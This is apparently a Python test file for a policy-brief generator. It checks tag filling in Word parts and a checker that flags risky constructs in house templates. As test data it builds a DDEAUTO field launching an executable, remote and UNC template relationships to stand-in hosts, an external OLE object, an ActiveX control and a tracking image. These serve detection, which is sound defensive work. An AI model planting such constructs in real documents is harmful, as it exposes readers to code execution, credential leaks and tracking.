"""Tags where Word shows text outside of paragraphs, and what a house document fetches, takes in or runs."""

from __future__ import annotations

import dataclasses
import io
import zipfile
from typing import TYPE_CHECKING

import pytest
from lxml import etree

from briefgen.model import WordFile, plain
from briefgen.rendering import make_artifact
from briefgen.rendering.docx import check_house, write_docx
from briefgen.rendering.template import load_template
from briefgen.verification import verify
from tests.rendering.docx.houses import R, W, edited, element, letterhead, zipped
from tests.rendering.gallery import gallery_brief

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from docx.document import Document

WHOLE, EVIDENCE = gallery_brief(3)
BRIEF = dataclasses.replace(WHOLE, layouts=("parallel",), formats=("docx",))
PERIOD = plain(BRIEF.period["en"])
TITLE = plain(BRIEF.title["en"])


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def related(data: bytes, part: str, kind: str, target: str, *, external: bool = False) -> bytes:
    """Add a relationship to a part."""
    folder, _, name = part.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels"
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="rIdTest" Type="{R}/{kind}" Target="{target}"{mode}/>'
    held = members(data)
    usual = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    told = held.get(rels, usual).replace(b"</Relationships>", f"{entry}</Relationships>".encode())
    return zipped({**held, rels: told})


def with_part(data: bytes, name: str, content: str, kind: str) -> bytes:
    """Add a part that the document is related to."""
    held = members(related(data, "word/document.xml", kind, f"/{name}"))
    types = held["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/{name}" ContentType="application/xml"/></Types>'.encode()
    )
    return zipped({**held, "[Content_Types].xml": types, name: content.encode()})


def appended(xml: str) -> Callable[[Document], None]:
    return lambda document: document.element.body.insert(0, element(xml))


@pytest.fixture
def made(tmp_path: Path) -> Callable[[bytes], dict[str, str]]:
    """Give the parts of a brief in a house document, after its quotations were proved."""

    def make(house: bytes) -> dict[str, str]:
        path = tmp_path / "house.docx"
        path.write_bytes(house)
        template = dataclasses.replace(load_template("policy-brief"), word=WordFile(path=path))
        data = write_docx(BRIEF, "parallel", template)
        report = verify(BRIEF, (make_artifact(BRIEF, "parallel", "docx", data),), EVIDENCE)
        assert report.ok
        return {name: part.decode() for name, part in members(data).items() if name.endswith(".xml")}

    return make


@pytest.fixture
def found(tmp_path: Path) -> Callable[[bytes], list[str]]:
    """Give what is found in a document, as ``severity code place: message``."""

    def look(house: bytes) -> list[str]:
        path = tmp_path / "house.docx"
        path.write_bytes(house)
        return [
            f"{one.severity} {one.code.removeprefix('house.')} {one.path}: {one.message}"
            for one in check_house(path)
            if one.code not in {"house.direction", "house.comments"}
        ]

    return look


STORE = '<Cover xmlns="urn:cover"><Abstract>{{period.en}}</Abstract><Other at="{{title.en}}"/></Cover>'
BOUND = (
    '<w:sdt {ns}><w:sdtPr><w:alias w:val="Abstract"/><w:id w:val="6"/><w:dataBinding w:xpath="/Cover/Abstract" '
    'w:storeItemID="{55AF091B-3C7A-41E3-B477-F2FDAA23CFDA}"/><w:text/></w:sdtPr><w:sdtContent><w:p><w:r>'
    "<w:t>{{period.en}}</w:t></w:r></w:p></w:sdtContent></w:sdt>"
)
WATERMARK = (
    '<w:p {ns}><w:r><w:pict><v:shape id="PowerPlusWaterMarkObject1" alt="{{title.en}}" style="width:400pt">'
    '<v:textpath string="{{marking}}"/></v:shape></w:pict></w:r></w:p>'
)
SMART_ART = (
    '<dgm:dataModel xmlns:dgm="http://schemas.openxmlformats.org/drawingml/2006/diagram" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><dgm:t><a:p><a:r><a:t>For {{period.en}}'
    "</a:t></a:r></a:p></dgm:t></dgm:dataModel>"
)


def test_the_data_behind_a_content_control_is_filled_too(made: Callable[[bytes], dict[str, str]]) -> None:
    parts = made(with_part(letterhead(appended(BOUND)), "customXml/item1.xml", STORE, "customXml"))
    assert f"<Abstract>{PERIOD}</Abstract>" in parts["customXml/item1.xml"]
    assert f'at="{TITLE}"' in parts["customXml/item1.xml"]
    assert PERIOD in parts["word/document.xml"]


def test_watermarks_and_alternative_texts_are_filled(made: Callable[[bytes], dict[str, str]]) -> None:
    def more(document: Document) -> None:
        document.sections[0].header._element.append(element(WATERMARK))

    header = next(part for part in made(letterhead(more)).values() if "PowerPlusWaterMarkObject1" in part)
    assert f'string="{BRIEF.marking}"' in header
    assert f'alt="{TITLE}"' in header


def test_words_in_a_drawing_of_their_own_part_are_filled(made: Callable[[bytes], dict[str, str]]) -> None:
    parts = made(with_part(letterhead(), "word/diagrams/data1.xml", SMART_ART, "diagramData"))
    assert f">For {PERIOD}<" in parts["word/diagrams/data1.xml"]


def test_comments_and_properties_are_filled(made: Callable[[bytes], dict[str, str]]) -> None:
    def more(document: Document) -> None:
        document.core_properties.subject = "{{ period.en }}"
        document.add_comment(document.add_paragraph("x").runs, text="see {{title.en}}", author="she", initials="s")

    parts = made(letterhead(more))
    assert f"see {TITLE}" in "".join(map(str, etree.fromstring(parts["word/comments.xml"].encode()).itertext()))
    assert f"<dc:subject>{PERIOD}</dc:subject>" in parts["docProps/core.xml"]
    assert not [name for name, part in parts.items() if "{{" in part]


FIELD = (
    '<w:p {ns}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DOCPROPERTY {{title.en}} </w:instrText>'
    '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


@pytest.mark.parametrize(
    ("house", "said"),
    [
        (
            letterhead(lambda document: setattr(document.core_properties, "subject", "{{titel.en}}")),
            "error tag-unknown docProps/core.xml, subject: there is no tag {{titel.en}}",
        ),
        (
            letterhead(lambda document: setattr(document.core_properties, "subject", "{{brief}}")),
            "error anchor-place docProps/core.xml, subject: {{brief}} stands where no pages can follow",
        ),
        (
            with_part(letterhead(), "word/diagrams/data1.xml", SMART_ART.replace("period", "periode"), "diagramData"),
            "error tag-unknown word/diagrams/data1.xml, t: there is no tag {{periode.en}}",
        ),
        (
            with_part(letterhead(), "customXml/item1.xml", "<a>{{ledger}}</a>", "customXml"),
            "warning tag-unknown customXml/item1.xml, a: there is no tag {{ledger}}",
        ),
        (
            letterhead(appended(FIELD)),
            "error tag-field word/document.xml, instrText: {{title.en}} stands in the code of a field, which Word",
        ),
    ],
)
def test_a_wrong_tag_outside_of_paragraphs_is_named_with_its_place(
    house: bytes, said: str, found: Callable[[bytes], list[str]]
) -> None:
    (line,) = found(house)
    assert line.startswith(said)


def _simple(code: str) -> bytes:
    return letterhead(
        appended(f'<w:p {{ns}}><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')
    )


SPLIT_CODE = (
    '<w:p {ns}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r>'
    '<w:instrText>AUTO c:\\\\x.exe </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


@pytest.mark.parametrize(
    ("house", "said"),
    [
        (
            related(letterhead(), "word/footer1.xml", "image", "https://track.example/1.png", external=True),
            "warning fetched word/footer1.xml: whoever opens it fetches https://track.example/1.png",
        ),
        (
            related(letterhead(), "word/settings.xml", "attachedTemplate", "https://x.example/t.dotm", external=True),
            "error fetched word/settings.xml: whoever opens it fetches https://x.example/t.dotm",
        ),
        (
            related(letterhead(), "word/settings.xml", "attachedTemplate", "file:///\\\\host\\t.dotm", external=True),
            "error fetched word/settings.xml: whoever opens it fetches file:///\\\\host\\t.dotm",
        ),
        (
            related(letterhead(), "word/settings.xml", "attachedTemplate", "file:///C:/Own/t.dotx", external=True),
            "warning fetched word/settings.xml: whoever opens it fetches file:///C:/Own/t.dotx",
        ),
        (
            related(letterhead(), "word/document.xml", "oleObject", "//host/share/x.xlsx", external=True),
            "error fetched word/document.xml: whoever opens it fetches //host/share/x.xlsx",
        ),
        (
            with_part(letterhead(), "word/chunk.xml", "<html>{</html>", "aFChunk"),
            "warning taken-in word/document.xml: it holds a part that Word takes in on opening; nothing in it was",
        ),
        (
            with_part(letterhead(), "word/activeX/activeX1.xml", "<x/>", "control"),
            "error taken-in word/document.xml: it holds an ActiveX control, which is code",
        ),
        (letterhead(appended(SPLIT_CODE)), "error field word/document.xml: a field DDEAUTO in it runs a program"),
        (
            _simple(" INCLUDEPICTURE http://x.example/1.png "),
            "warning field word/document.xml: a field INCLUDEPICTURE in it takes in a file: INCLUDEPICTURE http://x.ex",
        ),
    ],
)
def test_what_reaches_out_of_the_document_is_named(
    house: bytes, said: str, found: Callable[[bytes], list[str]]
) -> None:
    (line,) = found(house)
    assert line.startswith(said)


def test_links_that_a_reader_follows_are_no_matter(found: Callable[[bytes], list[str]]) -> None:
    linked = related(letterhead(), "word/footer1.xml", "hyperlink", "https://ministry.example/", external=True)
    assert found(linked) == []
    assert found(_simple(" PAGE ")) == []


ANCHORS = {
    "content control": "<w:sdt {ns}><w:sdtContent><w:p><w:r><w:t>{{brief}}</w:t></w:r></w:p></w:sdtContent></w:sdt>",
    "cut": (
        '<w:p {ns}><w:r><w:rPr><w:b/></w:rPr><w:t>{</w:t></w:r><w:proofErr w:type="gramStart"/><w:r><w:t>{</w:t></w:r>'
        "<w:r><w:t>BRI</w:t></w:r><w:r><w:t>ef</w:t></w:r><w:r><w:rPr><w:rtl/></w:rPr><w:t>} }</w:t></w:r></w:p>"
    ).replace("} }", "}}"),
    "numbered": (
        '<w:p {ns}><w:pPr><w:pStyle w:val="ListNumber"/></w:pPr><w:r><w:t xml:space="preserve"> {{ brief }} </w:t>'
        "</w:r></w:p>"
    ),
}


@pytest.mark.parametrize("name", ANCHORS)
def test_the_anchor_may_stand_in_whatever_word_makes_of_a_paragraph(
    name: str, made: Callable[[bytes], dict[str, str]]
) -> None:
    house = edited(letterhead(), "word/document.xml", lambda part: part.replace(b"{{brief}}", b""))
    held = members(house)
    root = etree.fromstring(held["word/document.xml"])
    body = root.find(f"{{{W}}}body")
    assert body is not None
    body.insert(2, element(ANCHORS[name]))
    document = made(zipped({**held, "word/document.xml": etree.tostring(root)}))["word/document.xml"]
    assert "briefgen_brief" in document
    assert "{{" not in document
